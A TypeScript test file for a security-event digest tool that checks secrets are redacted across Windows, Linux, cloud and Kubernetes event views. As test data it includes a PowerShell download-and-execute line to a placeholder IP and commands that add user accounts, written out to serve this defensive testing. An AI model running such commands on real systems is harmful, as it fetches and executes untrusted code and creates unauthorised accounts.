import * as fc from "fast-check";
import { expect, test } from "vitest";
import { createDescriber } from "../../../src/digest/describe/create-describer.ts";
import { sayEvent } from "../../../src/digest/describe/example.ts";
import { redactValues } from "../../../src/digest/describe/redact-values.ts";
import type { EventDigest } from "../../../src/digest/event-digest.ts";
import { matchBehaviours } from "../../../src/digest/behaviours/table.ts";
import type { EventRecord } from "../../../src/event-fields/event-record.ts";
import { createEventFold } from "../../../src/digest/fold.ts";
import { renderDigest } from "../../../src/digest/render/render-digest.ts";
import { renderRaw } from "../../../src/digest/render/render-raw.ts";
import { renderRows } from "../../../src/digest/render/render-rows.ts";
import { createClean } from "../../../src/text/clean.ts";
import { eventArbitrary } from "../../support/digest-arbitraries.ts";
import { rowsOf, textOf } from "../../support/digest-of.ts";

const call = { alertId: "alert-1" };
const SECRET = "Zk9x!Plum7";

function digestOf(events: readonly EventRecord[], redact: boolean): EventDigest {
  const fold = createEventFold({ redact });
  for (const event of events) fold.add(event, 100);
  return fold.end();
}

/** Every view of the events, with secrets or without. */
function viewsOf(events: readonly EventRecord[], redact: boolean): Record<string, string> {
  const clean = createClean({ redact });
  const options = { maxTokens: 4000, clean, call };
  const page = rowsOf(events, { limit: 100 });
  return {
    digest: textOf(renderDigest(digestOf(events, redact), options)),
    rows: textOf(renderRows(page, options)),
    raw: textOf(renderRaw(page, options)),
  };
}

function start(
  line: string,
  parent = "w3wp.exe",
  exe = "C:\\Windows\\System32\\cmd.exe",
): EventRecord {
  return {
    event_type: "winsec",
    provider: "Microsoft-Windows-Sysmon",
    win_event_id: 1,
    exe,
    arguments: line,
    ParentImage: `C:\\x\\${parent}`,
    timestamp: "2026-01-31T00:00:00Z",
  };
}

function textOfEvent(event: EventRecord, redact = true): string {
  const { shape, values } = createDescriber(matchBehaviours)(event);
  return sayEvent(shape, values, redact).text;
}

test("a parent is no password of the command before it", () => {
  const text = textOfEvent(start("cmd.exe /c net user"));

  expect(text).toContain("cmd.exe /c net user ← ");
  expect(text).toContain("w3wp.exe");
});

const CONTAINER = {
  containerDefinitions: [
    { name: "app", image: "app:1", environment: [{ name: "DB_PASSWORD", value: SECRET }] },
  ],
};

/** Where a secret stands in events of every type, and what must stay beside it. */
test.each<[string, EventRecord, string]>([
  [
    "a process",
    {
      event_type: "audit",
      syscall: "execve",
      exe: "/usr/bin/mysql",
      arguments: `mysql -u root -p${SECRET} shop`,
    },
    "shop",
  ],
  [
    "arguments without their program",
    {
      event_type: "audit",
      syscall: "execve",
      exe: "/usr/bin/mysql",
      arguments: `-u root -p${SECRET} shop`,
    },
    "shop",
  ],
  [
    "a list of arguments",
    {
      event_type: "audit",
      syscall: "execve",
      exe: "/usr/bin/mysql",
      args: ["mysql", "-u", "root", `-p${SECRET}`, "shop"],
    },
    "shop",
  ],
  [
    "a pipeline",
    {
      event_type: "winsec",
      win_event_id: 4104,
      provider: "Microsoft-Windows-PowerShell",
      ScriptBlockText: `whoami; net user /add bob ${SECRET} | Out-Null`,
    },
    "Out-Null",
  ],
  [
    "a script of several lines",
    {
      event_type: "winsec",
      win_event_id: 4104,
      provider: "Microsoft-Windows-PowerShell",
      ScriptBlockText: `net user bob\nwhoami\n$password = '${SECRET}'\nhostname`,
    },
    "net user bob whoami",
  ],
  [
    "a registry value",
    {
      event_type: "winsec",
      win_event_id: 13,
      provider: "Microsoft-Windows-Sysmon",
      exe: "C:\\Windows\\regedit.exe",
      TargetObject:
        "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\DefaultPassword",
      Details: SECRET,
    },
    "DefaultPassword",
  ],
  [
    "a call's parameter",
    {
      event_type: "cloudtrail",
      eventName: "ModifyDBInstance",
      eventSource: "rds.amazonaws.com",
      requestParameters: { dBInstanceIdentifier: "db-one", masterUserPassword: SECRET },
    },
    "db-one",
  ],
  [
    "environment of a container",
    {
      event_type: "cloudtrail",
      eventName: "RegisterTaskDefinition",
      eventSource: "ecs.amazonaws.com",
      requestParameters: CONTAINER,
    },
    "app:1",
  ],
  [
    "environment of a function",
    {
      event_type: "cloudtrail",
      eventName: "UpdateFunctionConfiguration",
      eventSource: "lambda.amazonaws.com",
      requestParameters: {
        functionName: "f1",
        environment: { variables: { DB_PASSWORD: SECRET } },
      },
    },
    "f1",
  ],
  [
    "a pod",
    {
      event_type: "kubernetesAudit",
      verb: "create",
      objectRef: { resource: "pods", name: "p1" },
      requestObject: {
        spec: {
          containers: [
            {
              image: "app:1",
              command: ["mysql", `-p${SECRET}`],
              env: [{ name: "DB_PASSWORD", value: SECRET }],
            },
          ],
        },
      },
    },
    "app:1",
  ],
  [
    "a secret of a cluster",
    {
      event_type: "kubernetesAudit",
      verb: "create",
      objectRef: { resource: "secrets", name: "s1" },
      requestObject: { kind: "Secret", data: { first: SECRET }, stringData: { second: SECRET } },
    },
    "s1",
  ],
  [
    "what was run in a container",
    {
      event_type: "kubernetesAudit",
      verb: "create",
      objectRef: { resource: "pods", subresource: "exec", name: "p1" },
      requestURI: `/api/v1/namespaces/a/pods/p1/exec?command=mysql&command=-p${encodeURIComponent(SECRET)}&command=shop`,
    },
    "command=shop",
  ],
  [
    "a log line that begins with a header",
    { event_type: "host", message: `X-Auth-Token: ${SECRET} from 10.0.0.7` },
    "10.0.0.7",
  ],
  [
    "a request in a log",
    {
      event_type: "host",
      message: `Jan 31 00:00:00 web app[1]: GET /x?token=${SECRET}&page=2 200`,
    },
    "page=2",
  ],
  [
    "a type that nobody knows",
    { event_type: "novel", region: "north", password: `two words ${SECRET}` },
    "north",
  ],
  [
    "a file that was written by a command",
    {
      event_type: "file",
      action: "write",
      filename: "/etc/app.conf",
      exe: "/usr/bin/curl",
      arguments: `curl -u bob:${SECRET} https://h.example`,
    },
    "/etc/app.conf",
  ],
])("%s is shown without its secret, and whole where it is to be", (_name, event, beside) => {
  const redacted = viewsOf([event], true);
  const whole = viewsOf([event], false);

  for (const [view, text] of Object.entries(redacted)) {
    expect(text, view).not.toContain(SECRET);
    expect(text, view).not.toContain(encodeURIComponent(SECRET));
    expect(text, view).toContain("[redacted]");
  }
  expect(redacted["digest"]).toContain(beside);
  expect(redacted["rows"]).toContain(beside);
  expect(whole["digest"]).toContain(SECRET);
  expect(whole["rows"]).toContain(SECRET);
});

test("what a registry value switches on is no secret", () => {
  const event = {
    event_type: "winsec",
    win_event_id: 13,
    provider: "Microsoft-Windows-Sysmon",
    TargetObject: "HKLM\\System\\Services\\LanmanWorkstation\\EnablePlainTextPassword",
    Details: "DWORD (0x00000001)",
  };

  for (const text of Object.values(viewsOf([event], true))) {
    expect(text).toContain("DWORD (0x00000001)");
  }
});

/** Letters only: of other names a part is masked. */
const named = fc.stringMatching(/^[a-s][a-z]{2,9}$/);
/** Ways to hand a secret to a program; § is the secret. */
const FORMS = [
  "net user bob § /add",
  "net user /add bob §",
  'net1 user "bob" "§" /add',
  "tool --password § --user x",
  "tool --api-key=§ x",
  "mysql -u root -p§ shop",
  "curl -u bob:§ https://h.example/x",
  "curl -H 'Authorization: Bearer abc§' https://h.example/x",
  "curl https://bob:§@h.example/x?page=2",
  "curl https://h.example/x?token=§",
  "DB_PASSWORD=§ ./run",
  "powershell -c $password = '§'; whoami",
  "ConvertTo-SecureString '§' -AsPlainText -Force",
  "echo § | sudo -S id",
] as const;
const secrets = fc.stringMatching(/^Zq[A-Za-z0-9!_]{5,12}7x$/);
/** What ends where another value begins, and would be a secret's name if it did not. */
const ends = fc.constantFrom("", " net user", " --password", " password:", " -u bob:", " | sudo");

test("no form of a command shows its secret, and every one its program and parent", () => {
  fc.assert(
    fc.property(
      fc.record({
        program: named,
        parent: named,
        form: fc.constantFrom(...FORMS),
        secret: secrets,
        end: ends,
      }),
      ({ program, parent, form, secret, end }) => {
        const line = `C:\\opt\\${program}.exe /c ${form.replace("§", secret)}${end}`;
        const event = start(line, `${parent}.exe`, `C:\\opt\\${program}.exe`);
        for (const [view, text] of Object.entries(viewsOf([event], true))) {
          expect(text, view).not.toContain(secret);
          expect(text, view).toContain(`${program}.exe`);
          expect(text, view).toContain(`${parent}.exe`);
        }
      },
    ),
    { numRuns: 150 },
  );
});

test("a line without a secret is shown as it is", () => {
  fc.assert(
    fc.property(named, named, ends, (program, parent, end) => {
      const event = start(
        `C:\\opt\\${program}.exe /c whoami${end}`,
        `${parent}.exe`,
        `C:\\opt\\${program}.exe`,
      );
      expect(textOfEvent(event)).toBe(textOfEvent(event, false));
    }),
    { numRuns: 300 },
  );
});

test("what is redacted changes neither groups nor what is known of them", () => {
  const factsOf = ({ groups }: EventDigest) =>
    groups.map(({ id, count, hits, rarity, template, outcome }) => ({
      id,
      count,
      hits,
      rarity,
      template,
      outcome,
    }));
  const events = [
    ...FORMS.map((form, at) => start(`cmd.exe /c ${form.replace("§", `Zq${String(at)}aB7x`)}`)),
    start("cmd.exe /c net user"),
  ];

  expect(factsOf(digestOf(events, true))).toEqual(factsOf(digestOf(events, false)));
  expect(factsOf(digestOf(events, true)).some(({ hits }) => hits.length > 0)).toBe(true);
  fc.assert(
    fc.property(fc.array(eventArbitrary, { maxLength: 12 }), (some) => {
      expect(factsOf(digestOf(some, true))).toEqual(factsOf(digestOf(some, false)));
    }),
    { numRuns: 100 },
  );
});

test("the shape of a group is masked after its secrets are gone", () => {
  const events = ["aB7xQ9", "zY1wV3"].map((secret) =>
    start(`cmd.exe /c tool --password 12${secret} run 4711`),
  );
  const digest = digestOf(events, true);
  const templates = digest.groups.map(({ shownTemplate }) => shownTemplate());

  expect(templates.every((template) => template.includes("--password [redacted] run #"))).toBe(
    true,
  );
  const whole = digestOf(events, false).groups;
  expect(whole.map(({ shownTemplate }) => shownTemplate())).toEqual(
    whole.map(({ template }) => template),
  );
});

test("of a long script the part is shown that made it suspicious, whatever secrets it holds", () => {
  const password = `$password = '${"Zq7x".repeat(60)}'; `;
  const script = `${"Write-Host ok; ".repeat(60)}${password}IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a'); ${"Write-Host ok; ".repeat(80)}`;
  const text = textOfEvent({
    event_type: "winsec",
    win_event_id: 4104,
    provider: "Microsoft-Windows-PowerShell",
    ScriptBlockText: script,
  });

  expect(text).toContain("DownloadString");
  expect(text).not.toContain("Zq7x");
});

test("values without a secret are not made anew", () => {
  const { shape, values } = createDescriber(() => [])(start("cmd.exe /c whoami"));

  expect(redactValues(shape.parser, values)).toBe(values);
});
